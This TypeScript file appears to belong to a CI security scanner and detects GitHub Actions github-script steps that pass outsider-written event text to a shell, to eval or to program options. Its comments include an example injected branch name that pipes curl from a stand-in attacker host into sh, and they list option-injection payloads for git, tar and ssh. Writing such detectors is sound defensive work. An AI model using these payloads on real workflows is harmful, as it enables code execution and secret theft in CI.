import type { Severity } from '../../signal/schema.js';
import { makeFinding } from '../finding.js';
import { lineOf } from '../util.js';
import { controlOf } from './contexts.js';
import type { RuleContext, TriggerFacts } from './facts.js';
import { findExpressions } from './expression.js';
import { envOf } from './facts.js';
import { taintOf, triggerText } from './injection-rules.js';

/**
 * Outsider-written text that an actions/github-script script reads from the event itself
 * (`context.payload.pull_request.title`, `.head.ref`, `context.payload.comment.body`) and hands to
 * a shell or to the JavaScript compiler: `execSync(\`git checkout ${ref}\`)`, child_process
 * `exec`, `spawn(…, { shell: true })`, `eval(…)`, `new Function(…)`. No `${{ }}` is pasted, so
 * the expression rules do not see it, yet a branch named `a;curl${IFS}evil.example|sh` runs as a
 * command all the same. Reported as gha-template-injection (docs/findings.md).
 *
 * The script is read line by line: variables bound to such text (`const title = …`,
 * `const { title, body } = context.payload.pull_request`, a template built from one) are followed
 * in order, and objects of the payload (`const pr = context.payload.pull_request`) resolve their
 * fields (`pr.head.ref` is outsider text, `pr.number` is not). What is not reported: the text
 * posted through the API (`github.rest.issues.createComment`), given to a program as an argument
 * array without a shell (`execFileSync('git', ['log', '--grep', title])`, `spawn('git', [ref])`), or to
 * `@actions/exec` (`exec.exec(…)`, which splits its command line itself and runs no shell), unless
 * the program's options can run a command and the text can be one (optionInjected).
 */

/** `context.payload.a.b`, `github.context.payload.a["b"]`, `pr.head.ref`: a property chain (dots only). */
const CHAIN = /(?<![\w$.])[A-Za-z_$][\w$]{0,60}(?:\s{0,2}\??\.\s{0,2}[A-Za-z_$][\w$]{0,60}){0,8}/g;

/** A declaration or assignment: `const x = …`, `let x = …`, `x = …` (group 1: name, group 2: value). */
const ASSIGNMENT = /^\s*(?:(?:const|let|var)\s+)?([A-Za-z_$][\w$]{0,60})\s*=(?!=)(.{1,2000})$/;
/** A destructuring declaration: `const { title, head: { ref } } = …` (group 1: the pattern, group 2: the source). */
const DESTRUCTURE = /^\s*(?:const|let|var)\s*\{([^=]{1,500})\}\s*=(.{1,500})$/;

/**
 * `/^[\w.-]+$/.test(NAME)` (class: group 1, name: group 2) or `NAME.match(/^[\w.-]+$/)` (name:
 * group 3, class: group 4).
 */
const VALIDATION = /\/\^\[([^\]\n]{1,80})\][+*]\$\/[a-z]{0,3}\.test\(\s*([A-Za-z_$][\w$]{0,60})\s*\)|([A-Za-z_$][\w$]{0,60})\.match\(\s*\/\^\[([^\]\n]{1,80})\][+*]\$\//g;
/** `.replace(/[^\w.-]/g, …)`: everything outside the class (group 1) is removed. */
const SANITIZER = /\.replace(?:All)?\(\s*\/\[\^([^\]\n]{1,80})\][+*]?\/[a-z]{0,3}\s*,/;
/** A character class of letters, digits and punctuation no shell gives a meaning to. */
const SAFE_CLASS = /^(?:\\[-wd./]|[-\w./:@+=,])+$/;

/** The functions of child_process (and @actions/exec's) a script calls by these names. */
const SINK_NAMES = ['execSync', 'exec', 'spawnSync', 'spawn', 'execFileSync', 'execFile', 'getExecOutput', 'eval', 'Function'] as const;
/** Calls that run their argument in a shell or compile it as JavaScript, or run a program (group 1: the object, group 2: the callee). */
const SINK = /(?<![\w$])(?:([A-Za-z_$][\w$]{0,40})\.)?(execSync|exec|spawnSync|spawn|execFileSync|execFile|getExecOutput|eval|Function)\s*\(/g;
/** The objects child_process is usually bound to (`cp.execSync`, `childProcess.exec`). */
const CHILD_PROCESS_OBJECT = /^(?:child_?process|cp|child)$/i;
/** `require('child_process').execSync(`: the text before the `.`. */
const REQUIRE_CHILD_PROCESS = /require\(\s*['"](?:node:)?child_process['"]\s*\)$/;
/** `const proc = require('child_process')` (group 1: the name). */
const CHILD_PROCESS_BINDING = /^\s*(?:const|let|var)\s+([A-Za-z_$][\w$]{0,40})\s*=\s*(?:await\s+import|require)\(\s*['"](?:node:)?child_process['"]\s*\)(?:\s*;)?\s*$/;
/** `const { execSync, exec: run } = require('child_process')` (group 1: the pattern). */
const CHILD_PROCESS_DESTRUCTURE = /^\s*(?:const|let|var)\s*\{([^{}=]{1,300})\}\s*=\s*(?:await\s+import|require)\(\s*['"](?:node:)?child_process['"]\s*\)/;
/**
 * A name bound to one function of child_process, promisified or not: `const run = util.promisify(cp.exec)`,
 * `const sh = promisify(require('child_process').exec)`, `const run = proc.execSync` (group 1: the
 * name, group 2: the object or `require(…)`, group 3: the function).
 */
const CHILD_PROCESS_ALIAS = /^\s*(?:const|let|var)\s+([A-Za-z_$][\w$]{0,40})\s*=\s*(?:(?:util\s*\.\s*)?promisify\(\s*)?(?:([A-Za-z_$][\w$]{0,40}|require\(\s*['"](?:node:)?child_process['"]\s*\))\s*\.\s*)?([A-Za-z_$][\w$]{0,40})(?:\s*\))?(?:\s*;)?\s*$/;
/** A value that literal characters other than `-` start: `` `backport-${n}` ``, `'refs/heads/' + name`. */
const LITERAL_START = /^(?:`(?!\$\{|-)|['"](?!-)[^'"]{1,200}['"]\s*\+)/;
/** The most aliases of child_process functions followed through a script. */
const MAX_ALIASES = 20;

/** What a script binds child_process to: objects (`proc`) and names of its functions (`run` → `exec`). */
interface ChildProcessNames {
  readonly objects: Set<string>;
  readonly functions: Map<string, string>;
}

function childProcessNames(lines: readonly string[]): ChildProcessNames {
  const objects = new Set<string>();
  const functions = new Map<string, string>();
  const isSinkName = (n: string): boolean => (SINK_NAMES as readonly string[]).includes(n) && n !== 'eval' && n !== 'Function' && n !== 'getExecOutput';
  for (const line of lines) {
    if (functions.size >= MAX_ALIASES || objects.size >= MAX_ALIASES) break;
    const binding = CHILD_PROCESS_BINDING.exec(line);
    if (binding !== null) {
      objects.add(binding[1]!);
      continue;
    }
    const destructure = CHILD_PROCESS_DESTRUCTURE.exec(line);
    if (destructure !== null) {
      for (const m of destructure[1]!.matchAll(/([A-Za-z_$][\w$]{0,40})\s*(?::\s*([A-Za-z_$][\w$]{0,40}))?/g)) {
        if (isSinkName(m[1]!) && m[2] !== undefined && m[2] !== m[1]) functions.set(m[2], m[1]!);
        else if (isSinkName(m[1]!)) functions.set(m[1]!, m[1]!);
      }
      continue;
    }
    const alias = CHILD_PROCESS_ALIAS.exec(line);
    if (alias === null) continue;
    const [, name, object, fn] = alias;
    const fromChildProcess = object === undefined ? functions.get(fn!) : object.startsWith('require') || objects.has(object) || CHILD_PROCESS_OBJECT.test(object) ? fn : undefined;
    if (fromChildProcess !== undefined && isSinkName(fromChildProcess) && name !== fromChildProcess) functions.set(name!, fromChildProcess);
  }
  return { objects, functions };
}

type Taint = { readonly kind: 'text'; readonly path: string } | { readonly kind: 'object'; readonly path: readonly string[] };

/** The event path a chain names (`context.payload.pull_request.title` → github.event.pull_request.title), or null. */
function payloadPath(chain: readonly string[], vars: ReadonlyMap<string, Taint>): string[] | null {
  const head = chain[0]!;
  if (head === 'context' && chain[1] === 'payload') return ['github', 'event', ...chain.slice(2)];
  if (head === 'github' && chain[1] === 'context' && chain[2] === 'payload') return ['github', 'event', ...chain.slice(3)];
  const bound = vars.get(head);
  if (bound?.kind === 'object') return [...bound.path, ...chain.slice(1)];
  return null;
}

/**
 * What a chain carries: outsider text, a payload object holding some, or nothing. A method or
 * property of outsider text (`pr.head.ref.trim`, `title.slice`) still carries it.
 */
function taintOfChain(chain: readonly string[], vars: ReadonlyMap<string, Taint>): Taint | null {
  const whole = taintOfPath(chain, vars);
  if (whole !== null) return whole;
  for (let k = chain.length - 1; k >= 1; k--) {
    const prefix = taintOfPath(chain.slice(0, k), vars);
    if (prefix?.kind === 'text') return prefix;
  }
  return null;
}

function taintOfPath(chain: readonly string[], vars: ReadonlyMap<string, Taint>): Taint | null {
  // `process.env.TITLE` of a step env: variable bound to outsider text (seeded as "process.env.TITLE").
  if (chain[0] === 'process' && chain[1] === 'env' && chain.length === 3) return vars.get(`process.env.${chain[2]}`) ?? null;
  const bound = vars.get(chain[0]!);
  if (bound?.kind === 'text') return bound;
  const path = payloadPath(chain, vars);
  if (path === null) return null;
  const lower = path.map((s) => s.toLowerCase());
  const control = controlOf(lower, false);
  if (control !== 'outsider') return null;
  // controlOf counts an object holding outsider fields as outsider text (it expands to JSON in `${{ }}`);
  // in JavaScript such an object is only a handle, so it is followed, not reported.
  if (controlOf(lower, true) === 'outsider' && !isLeaf(lower)) return { kind: 'object', path: lower };
  return { kind: 'text', path: lower.join('.') };
}

/** A field that holds text itself (github.event.pull_request.title), not an object around it. */
function isLeaf(path: readonly string[]): boolean {
  // An object path is a prefix of a longer outsider path: asking with one more wildcard segment tells.
  return controlOf([...path, '*'], false) !== 'outsider';
}

function chainsIn(text: string): string[][] {
  const chains: string[][] = [];
  for (const match of text.matchAll(CHAIN)) {
    chains.push(match[0].split('.').map((s) => s.replace(/[\s?]/g, '')));
    if (chains.length >= 200) break;
  }
  return chains;
}

/** The outsider text a piece of script carries, named for the finding, or null. */
function textIn(text: string, vars: ReadonlyMap<string, Taint>): string | null {
  for (const chain of chainsIn(text)) {
    const taint = taintOfChain(chain, vars);
    if (taint?.kind === 'text') return taint.path;
  }
  return null;
}

/** The argument text of a call whose `(` is at `open`, up to its closing parenthesis (at most 2000 characters). */
function argumentsAt(script: string, open: number): string {
  let depth = 0;
  const end = Math.min(script.length, open + 2000);
  for (let i = open; i < end; i++) {
    const c = script[i];
    if (c === '(') depth++;
    else if (c === ')') {
      depth--;
      if (depth === 0) return script.slice(open + 1, i);
    }
  }
  return script.slice(open + 1, end);
}

/** Whether a call of `callee` with these arguments runs a shell or compiles code. */
function runsAsCode(object: string, name: string, args: string): boolean {
  if (name === 'eval' || name === 'Function') return object === '' || object === 'globalThis';
  // Other objects' methods of these names (`/re/.exec(body)`, `exec.exec(…)` of @actions/exec, which
  // runs no shell) are not child_process.
  if (object !== '' && !CHILD_PROCESS_OBJECT.test(object) && object !== 'require') return false;
  if (name === 'execSync' || name === 'exec') return true;
  // spawn / execFile take an argument array and run no shell unless told to.
  return /\bshell\s*:\s*(?:true|['"`])/.test(args) || SHELL_PROGRAM.test(args);
}

/** `spawn('bash', ['-c', cmd])`: the program is a shell given a command. */
const SHELL_PROGRAM = /^\s*['"`](?:\/(?:usr\/)?bin\/)?(?:ba|z|da)?sh['"`]\s*,\s*\[\s*['"`]-\w{0,3}c['"`]/;

export interface GithubScriptSink {
  /** The outsider text that reaches the sink (github.event.pull_request.head.ref). */
  readonly source: string;
  /** The call, as written. */
  readonly call: string;
  /** The line of the call, trimmed, to locate the finding. */
  readonly line: string;
  /** Set when the text is one argument of this program, where it can be an option (option injection), not a shell command. */
  readonly option?: string;
}

/** Where a github-script script runs outsider text from the event payload as a command or as code. */
export function githubScriptSinks(script: string, env: ReadonlyMap<string, string> = new Map()): GithubScriptSink[] {
  const vars = new Map<string, Taint>();
  // Names bound to outsider text that literal characters other than `-` start: never an option.
  const prefixed = new Set<string>();
  for (const [name, source] of env) vars.set(`process.env.${name}`, { kind: 'text', path: source });
  const lines = script.split('\n').slice(0, 2000);
  for (const line of lines) {
    if (vars.size >= 50) break;
    // A variable checked against an anchored class of plain characters (`/^[\w.-]+$/.test(ref)`) is taken as validated.
    for (const check of line.matchAll(VALIDATION)) {
      const cls = check[1] ?? check[4];
      const checked = check[2] ?? check[3];
      if (cls !== undefined && checked !== undefined && SAFE_CLASS.test(cls)) vars.delete(checked);
    }
    const destructure = DESTRUCTURE.exec(line);
    if (destructure !== null) {
      const source = chainsIn(destructure[2]!)[0];
      const base = source === undefined ? null : taintOfChain(source, vars);
      if (base?.kind === 'object') {
        // `{ title, head: { ref }, body: text }`: names (or aliases) of the first level, and one nested level.
        for (const m of destructure[1]!.matchAll(/([A-Za-z_$][\w$]{0,60})\s*(?::\s*(?:\{([^{}]{0,200})\}|([A-Za-z_$][\w$]{0,60})))?/g)) {
          const field = m[1]!;
          if (m[2] !== undefined) {
            for (const inner of m[2].matchAll(/([A-Za-z_$][\w$]{0,60})\s*(?::\s*([A-Za-z_$][\w$]{0,60}))?/g)) {
              const taint = taintOfChain(['context', 'payload', ...base.path.slice(2), field, inner[1]!], new Map());
              if (taint !== null) vars.set(inner[2] ?? inner[1]!, taint);
            }
            continue;
          }
          const taint = taintOfChain(['context', 'payload', ...base.path.slice(2), field], new Map());
          if (taint !== null) vars.set(m[3] ?? field, taint);
        }
      }
      continue;
    }
    const assignment = ASSIGNMENT.exec(line);
    if (assignment === null) continue;
    const name = assignment[1]!;
    const value = assignment[2]!.trim().replace(/;$/, '');
    const sanitizer = SANITIZER.exec(value);
    if (sanitizer !== null && SAFE_CLASS.test(sanitizer[1]!)) {
      // `title.replace(/[^\w.-]/g, '')`: only plain characters are left.
      vars.delete(name);
      continue;
    }
    const whole = /^[A-Za-z_$][\w$]{0,60}(?:\s{0,2}\??\.\s{0,2}[A-Za-z_$][\w$]{0,60}){0,8}$/.test(value) ? chainsIn(value)[0] : undefined;
    const direct = whole === undefined ? null : taintOfChain(whole, vars);
    if (direct !== null) {
      vars.set(name, direct);
      continue;
    }
    const text = textIn(value, vars);
    if (text !== null) vars.set(name, { kind: 'text', path: text });
    else vars.delete(name);
    // Text that literal characters start (`\`backport-${title}\``, `'refs/heads/' + name`) cannot start with `-`.
    if (text !== null && LITERAL_START.test(value)) prefixed.add(name);
    else prefixed.delete(name);
  }
  const sinks: GithubScriptSink[] = [];
  const bound = childProcessNames(lines);
  // Names bound to child_process's functions (`run` of `const run = util.promisify(cp.exec)`) are called as sinks too.
  const aliases = [...bound.functions.keys()].filter((n) => !(SINK_NAMES as readonly string[]).includes(n));
  const sink = aliases.length === 0 ? SINK : new RegExp(`${SINK.source.slice(0, SINK.source.lastIndexOf(')\\s*\\('))}|${aliases.map((n) => n.replace(/\$/g, '\\$')).join('|')})\\s*\\(`, 'g');
  let calls = 0;
  for (const match of script.matchAll(sink)) {
    // At most 5 findings and 200 calls read a script (each reads at most 2000 characters).
    if (sinks.length >= 5 || ++calls > 200) break;
    const written = match[2]!;
    let object = match[1] ?? '';
    if (object !== '' && bound.objects.has(object)) object = 'child_process';
    const alias = object === '' ? bound.functions.get(written) : undefined;
    if (alias === undefined && !(SINK_NAMES as readonly string[]).includes(written)) continue;
    const name = alias ?? written;
    const before = script.slice(Math.max(0, match.index - 80), match.index);
    if (before.endsWith('.')) {
      // `require('child_process').execSync(`; any other `x.y.exec(` is not child_process.
      if (object !== '' || !REQUIRE_CHILD_PROCESS.test(before.slice(0, -1))) continue;
      object = 'require';
    }
    const callee = object === '' || object === 'require' ? written : `${match[1] ?? ''}.${written}`;
    const open = match.index + match[0].length - 1;
    const args = argumentsAt(script, open);
    if (!runsAsCode(object, name, args)) {
      const injected = optionInjected(object, name, args, vars, prefixed);
      if (injected !== null) sinks.push({ source: injected.source, call: callee, line: lineAround(script, match.index), option: injected.program });
      continue;
    }
    // The command is the first argument (options and callbacks after it do not run), or the
    // argument array of a shell given `-c`.
    const command = SHELL_PROGRAM.test(args) ? args : firstArgument(args);
    // `execSync(process.env.X)` alone is environmentCodeRules' finding (injection-rules.ts).
    if (callee === name && !before.endsWith('.') && /^\s*process\.env\.[A-Za-z_]\w*\b/.test(command)) continue;
    const source = textIn(command, vars);
    if (source === null) continue;
    sinks.push({ source, call: callee, line: lineAround(script, match.index) });
  }
  return sinks;
}

/** The line of a script around an offset, trimmed. */
function lineAround(script: string, at: number): string {
  const lineStart = script.lastIndexOf('\n', at) + 1;
  const lineEnd = script.indexOf('\n', at);
  return script.slice(lineStart, lineEnd < 0 ? undefined : lineEnd).trim();
}

/**
 * Programs an argument that starts with `-` can make run a command or write a file:
 * `git fetch --upload-pack=…`, `tar --checkpoint-action=exec=…`, `find -exec`, `ssh -oProxyCommand=…`,
 * `rsync -e …`, `zip -TT=…`, `curl -o`/`-K`, `wget -e`/`--use-askpass`, `xargs`, `env`.
 */
const OPTION_RUNS_PROGRAM = /^(?:git|tar|gtar|bsdtar|find|ssh|scp|sftp|rsync|zip|curl|wget|xargs|env|hg|svn)$/;
/**
 * Outsider fields that cannot start with `-`: branch and tag names (git refuses a ref that does),
 * commit SHAs, numbers. A title, a body, a comment, a label can.
 */
const NO_LEADING_DASH = /(?:\.ref|_ref|\.sha|_sha|\.head_branch|\.number|_number)$/;

/**
 * Option injection: a program run without a shell (`execFileSync('git', ['fetch', title])`,
 * `spawn('git', […])`, `exec.exec('git', […])` of @actions/exec) given outsider text as a whole
 * argument of its own, where text starting with `--upload-pack=` or `--output=` becomes an option of
 * a program whose options can run a command or write a file. Not when a `'--'` argument comes before
 * it (the end of options), when the argument before it is an option taking it as its value
 * (`'--grep', title`), or when literal text starts the argument (`` `refs/heads/${name}` ``).
 */
function optionInjected(object: string, name: string, args: string, vars: ReadonlyMap<string, Taint>, prefixed: ReadonlySet<string>): { source: string; program: string } | null {
  const runsProgram = ((object === '' || object === 'require' || object === 'child_process' || CHILD_PROCESS_OBJECT.test(object)) && /^(?:spawn|spawnSync|execFile|execFileSync)$/.test(name)) || (object === 'exec' && (name === 'exec' || name === 'getExecOutput'));
  if (!runsProgram) return null;
  const program = /^\s*['"`]([\w./-]{1,100})['"`]\s*,\s*\[/.exec(args);
  if (program === null) return null;
  const base = program[1]!.slice(program[1]!.lastIndexOf('/') + 1);
  if (!OPTION_RUNS_PROGRAM.test(base)) return null;
  const list = arrayItems(args.slice(program[0].length));
  let previous = '';
  for (const item of list) {
    const text = item.trim();
    if (/^['"`]--['"`]$/.test(text)) return null;
    // `'--grep', title`: the argument is the option's value.
    const valueOfOption = /^['"`]-[\w-]{1,40}['"`]$/.test(previous);
    previous = text;
    if (valueOfOption || /^['"]|^`(?!\$\{)/.test(text) || prefixed.has(text)) continue;
    const source = textIn(text, vars);
    if (source !== null && !NO_LEADING_DASH.test(source)) return { source, program: base };
  }
  return null;
}

/** The items of an array literal whose `[` has been read, up to its closing `]` (at most 50). */
function arrayItems(rest: string): string[] {
  const items: string[] = [];
  let depth = 0;
  let quote = '';
  let start = 0;
  for (let i = 0; i < rest.length && items.length < 50; i++) {
    const c = rest[i]!;
    if (quote !== '') {
      if (c === '\\') i++;
      else if (c === quote) quote = '';
      continue;
    }
    if (c === '"' || c === "'" || c === '`') quote = c;
    else if (c === '(' || c === '[' || c === '{') depth++;
    else if ((c === ')' || c === ']' || c === '}') && depth > 0) depth--;
    else if (c === ']' || (c === ',' && depth === 0)) {
      items.push(rest.slice(start, i));
      if (c === ']') break;
      start = i + 1;
    }
  }
  return items.filter((item) => item.trim() !== '');
}

/** The first argument of an argument list: up to the first comma outside brackets, quotes and template text. */
function firstArgument(args: string): string {
  let depth = 0;
  let quote = '';
  for (let i = 0; i < args.length; i++) {
    const c = args[i]!;
    if (quote !== '') {
      if (c === '\\') i++;
      else if (c === quote) quote = '';
      else if (quote === '`' && c === '$' && args[i + 1] === '{') {
        // A template's `${…}` may hold commas; skip to its closing brace.
        const close = args.indexOf('}', i);
        if (close < 0) return args;
        i = close;
      }
      continue;
    }
    if (c === '"' || c === "'" || c === '`') quote = c;
    else if (c === '(' || c === '[' || c === '{') depth++;
    else if (c === ')' || c === ']' || c === '}') depth--;
    else if (c === ',' && depth === 0) return args.slice(0, i);
  }
  return args;
}

/** High on a privileged trigger, medium on other triggers outsiders cause (and in actions), low otherwise. */
function severityOf(ctx: TriggerFacts): Severity {
  if (ctx.privileged.length > 0) return 'high';
  if (ctx.workflow.kind === 'action' || ctx.outsider) return 'medium';
  return 'low';
}

export function githubScriptInjectionRules(ctx: RuleContext): void {
  for (const job of ctx.workflow.jobs) {
    for (const step of job.steps) {
      if (!step.uses || !/^actions\/github-script@/i.test(step.uses) || typeof step.with.script !== 'string') continue;
      const env = new Map<string, string>();
      for (const [name, value] of envOf(ctx.workflow, job, step)) {
        for (const span of findExpressions(value)) {
          const taint = taintOf(span.body);
          if (taint?.control === 'outsider') env.set(name, taint.contexts.join(', '));
        }
      }
      for (const sink of githubScriptSinks(step.with.script, env)) {
        const where = `Job ${job.id}${step.name ? `, step "${step.name}"` : ''}`;
        const compiles = /(?:eval|Function)$/.test(sink.call);
        if (sink.option !== undefined) {
          ctx.findings.push(
            makeFinding({
              id: 'gha-template-injection',
              severity: severityOf(ctx),
              title: `Outsider-written ${sink.source} can be an option of ${sink.option} in an actions/github-script script`,
              detail:
                `${where} reads ${sink.source} (from the event payload or an env: variable) and passes it to ${sink.option} as an argument of its own (\`${sink.line.slice(0, 120)}\`), on ${triggerText(ctx)}. ` +
                `No shell runs it, but whoever writes that text can start it with \`-\`: \`--upload-pack=…\` makes git fetch run a command, \`--output=…\` writes a file, and ${sink.option}'s other options are as free. ` +
                `Fix: put \`'--'\` before it in the argument list (the end of options), or check it against an allowed pattern first.`,
              path: ctx.path,
              line: lineOf(ctx.content, sink.line),
              subject: `${job.id}:github-script-option:${sink.source}:${sink.line}`,
            }),
          );
          continue;
        }
        ctx.findings.push(
          makeFinding({
            id: 'gha-template-injection',
            severity: severityOf(ctx),
            title: `Outsider-written ${sink.source} is ${compiles ? 'run as JavaScript' : 'run in a shell'} by an actions/github-script script`,
            detail:
              `${where} reads ${sink.source} (from the event payload or an env: variable) and hands it to ${sink.call}() (\`${sink.line.slice(0, 120)}\`), on ${triggerText(ctx)}. ` +
              `Whoever opens the issue or PR, comments, or names the branch chooses that text, and ${compiles ? 'it runs as code in the script' : 'shell syntax in it (`;`, `$(…)`, backticks) runs as commands'}. ` +
              'Fix: post it through the API (github.rest.issues.createComment) or pass it as one argument without a shell (`execFileSync(\'git\', [\'checkout\', ref])`), after checking it against an allowed pattern.',
            path: ctx.path,
            line: lineOf(ctx.content, sink.line),
            subject: `${job.id}:github-script-payload:${sink.source}:${sink.line}`,
          }),
        );
      }
    }
  }
}
